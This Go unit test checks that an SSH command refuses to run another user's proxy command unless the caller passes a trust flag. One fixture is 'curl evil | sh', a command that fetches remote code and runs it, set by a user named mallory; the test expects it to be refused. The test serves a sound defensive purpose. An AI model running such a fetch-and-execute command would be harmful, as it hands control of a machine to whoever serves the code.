package cli

import (
	"errors"
	"strings"
	"testing"

	rh "github.com/rhq/rh"
	"github.com/rhq/rh/api"
)

func TestSSHRunsAnotherUsersProxyCommandOnlyWithConsent(t *testing.T) {
	cases := []struct {
		name    string
		info    api.ConnectReply
		trusted bool
		refused bool
	}{
		{"no proxy command", api.ConnectReply{Caller: "alice"}, false, false},
		{"rh's own (SageMaker SSM)", api.ConnectReply{ProxyCommand: "aws ssm start-session --target %h", Caller: "alice"}, false, false},
		{"the caller's own", api.ConnectReply{ProxyCommand: "nc %h %p", ProxyCommandBy: "alice", Caller: "alice"}, false, false},
		{"another user's", api.ConnectReply{ProxyCommand: "curl evil | sh", ProxyCommandBy: "mallory", Caller: "alice"}, false, true},
		{"another user's, trusted", api.ConnectReply{ProxyCommand: "nc %h %p", ProxyCommandBy: "mallory", Caller: "alice"}, true, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			err := checkProxyConsent("relay", &c.info, c.trusted)
			if c.refused != (err != nil) {
				t.Fatalf("refused = %v (%v), want %v", err != nil, err, c.refused)
			}
			if c.refused && (!errors.Is(err, rh.ErrForbidden) || !strings.Contains(err.Error(), c.info.ProxyCommand) || !strings.Contains(err.Error(), "--trust-proxy-command")) {
				t.Fatalf("the refusal should show the command and the way out: %v", err)
			}
		})
	}
}
